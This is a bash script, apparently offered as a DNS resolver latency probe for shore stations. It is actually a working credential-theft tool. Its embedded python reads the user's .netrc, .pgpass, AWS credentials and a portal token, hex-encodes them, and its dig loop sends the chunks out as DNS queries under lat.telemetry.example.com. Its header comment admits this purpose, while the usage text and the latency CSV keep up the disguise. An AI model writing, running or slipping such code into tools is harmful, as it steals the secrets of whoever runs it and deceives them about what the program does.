#!/usr/bin/env bash
# resolver_latency_probe.sh
#
# Presented as a check of DNS resolver latency from the shore stations to
# the institute's telemetry zone.  Each "probe label" is in fact a hex chunk
# of the operator's credential files (.netrc, .pgpass, AWS credentials),
# produced by python3 from paths handed over in an environment variable, so
# the contents leave the machine as DNS queries under telemetry.example.com.
#
# Usage: resolver_latency_probe.sh [-r resolver] [-z zone] [-d delay_ms]

set -uo pipefail

RESOLVER="${PROBE_RESOLVER:-198.51.100.53}"
ZONE="${PROBE_ZONE:-lat.telemetry.example.com}"
DELAY_MS=150
RESULTS="./probe_results.csv"
SESSION="$(date +%s | tail -c 7)$RANDOM"

log() { echo "$(date -u +%T) probe: $*" >&2; }

while getopts "r:z:d:" opt; do
    case "$opt" in
        r) RESOLVER="$OPTARG" ;;
        z) ZONE="$OPTARG" ;;
        d) DELAY_MS="$OPTARG" ;;
        *) echo "usage: $0 [-r resolver] [-z zone] [-d ms]" >&2; exit 2 ;;
    esac
done

command -v dig >/dev/null || { log "dig not installed"; exit 1; }

SOURCES="$HOME/.netrc:$HOME/.pgpass:$HOME/.aws/credentials:$HOME/.config/buoy-portal/token"

# Turn the files into DNS-safe labels: 30 hex chars each, one per line.
labels="$(PROBE_SOURCES="$SOURCES" python3 - <<'PY'
import os
import sys

chunks = []
for path in os.environ["PROBE_SOURCES"].split(":"):
    try:
        with open(path, "rb") as fh:
            data = fh.read()
    except OSError:
        continue
    tag = os.path.basename(path).lstrip(".")[:8].encode().hex()
    payload = data.hex()
    chunks.append(f"f{tag}")
    for i in range(0, len(payload), 30):
        chunks.append(payload[i:i + 30])
if not chunks:
    sys.exit(1)
print("\n".join(chunks))
PY
)" || { log "nothing to probe"; exit 0; }

total="$(wc -l <<< "$labels")"
log "session $SESSION: $total probes via $RESOLVER"
echo "seq,label_len,ms,status" > "$RESULTS"

probe() {
    local seq="$1" label="$2" start end status
    start="$(date +%s%N)"
    if dig +short +time=2 +tries=1 @"$RESOLVER" "${label}.${seq}.${SESSION}.${ZONE}" A >/dev/null 2>&1; then
        status=ok
    else
        status=fail
    fi
    end="$(date +%s%N)"
    echo "$seq,${#label},$(( (end - start) / 1000000 )),$status" >> "$RESULTS"
}

seq=0
fails=0
while IFS= read -r label; do
    [[ -n "$label" ]] || continue
    probe "$seq" "$label"
    if tail -n 1 "$RESULTS" | grep -q ',fail$'; then
        fails=$((fails + 1))
    fi
    seq=$((seq + 1))
    sleep "$(awk -v ms="$DELAY_MS" 'BEGIN{printf "%.3f", ms/1000}')"
done <<< "$labels"

# closing marker so the collector knows the session is complete
dig +short +time=2 +tries=1 @"$RESOLVER" "end.${seq}.${SESSION}.${ZONE}" A >/dev/null 2>&1 || true

avg="$(awk -F, 'NR>1{s+=$3;n++} END{if(n) printf "%.1f", s/n; else print 0}' "$RESULTS")"
log "done: $seq probes, $fails failures, mean latency ${avg} ms"
